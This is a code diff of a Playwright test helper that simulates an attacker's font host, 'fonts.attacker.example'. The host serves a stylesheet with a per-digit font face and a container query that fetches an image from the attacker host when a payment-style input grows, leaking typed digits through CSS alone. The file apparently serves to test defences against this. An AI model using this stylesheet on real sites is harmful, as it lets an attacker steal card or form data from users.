@@ -1,54 +1,39 @@
 import { readFileSync } from 'node:fs';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import type { Page } from 'playwright-core';
+import type { BrowserContext, Page } from 'playwright-core';
 
-/** A server of the attacker's: any face for any address, and a list of what was asked for. */
-export interface AttackersServer {
-  readonly url: string;
-  readonly asked: string[];
-  stop(): Promise<void>;
-}
+/** Where the attacker's fonts are: a host that the browser believes in. */
+export const attackersHost = 'https://fonts.attacker.example';
 
-/** Digits of this face are as wide as one another; `size-adjust` by digit is what would tell them apart. */
-const face = readFileSync('/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf');
-
-export async function attackersServer(): Promise<AttackersServer> {
+/** Answers for that host any sheet and any face, and keeps what was asked for. */
+export async function attackersServer(context: BrowserContext): Promise<readonly string[]> {
   const asked: string[] = [];
-  const server = createServer((request, response) => {
-    asked.push(request.url ?? '');
-    const sheet = request.url?.startsWith('/digits.css') === true;
-    response.writeHead(200, {
-      'Access-Control-Allow-Origin': '*',
-      'Cache-Control': 'no-store',
-      'Content-Type': sheet ? 'text/css' : 'font/ttf',
+  await context.route(`${attackersHost}/**`, async (route) => {
+    const { pathname } = new URL(route.request().url());
+    asked.push(pathname);
+    const sheet = pathname === '/digits.css';
+    await route.fulfill({
+      headers: { 'Access-Control-Allow-Origin': '*', 'Cache-Control': 'no-store' },
+      contentType: sheet ? 'text/css' : 'font/ttf',
+      body: sheet ? digitsSheet : face,
     });
-    response.end(sheet ? digitsSheet : face);
   });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  return {
-    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
-    asked,
-    stop: () =>
-      new Promise((resolve) => {
-        server.close(() => resolve());
-        server.closeAllConnections();
-      }),
-  };
+  return asked;
 }
 
+/** Its digits are as wide as one another; `size-adjust` by digit is what would tell them apart. */
+const face = readFileSync('/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf');
 const digits = [...'0123456789'];
 
 /** A face for each digit, each of another size, and rules that ask for an image where a field has grown. */
 const digitsSheet = `${digits
   .map(
     (digit) =>
-      `@font-face { font-family: Digits; src: url(/digit-${digit}.ttf); unicode-range: U+3${digit}; size-adjust: ${100 + 10 * Number(digit)}%; ascent-override: ${100 + 20 * Number(digit)}% }`,
+      `@font-face { font-family: Digits; src: url(${attackersHost}/digit-${digit}.ttf); unicode-range: U+3${digit}; size-adjust: ${100 + 10 * Number(digit)}%; ascent-override: ${100 + 20 * Number(digit)}% }`,
   )
   .join('\n')}
 .Input, .InputElement { field-sizing: content; width: auto; font-family: Digits !important }
 .p-Input { container-type: inline-size }
-@container (min-width: 100px) { .p-Input-input { background: url(/wide.png) } }`;
+@container (min-width: 100px) { .p-Input-input { background: url(${attackersHost}/wide.png) } }`;
 
 /** The same by faces of the machine, for a page without a server. */
 export const localDigits = digits.map((digit) => ({
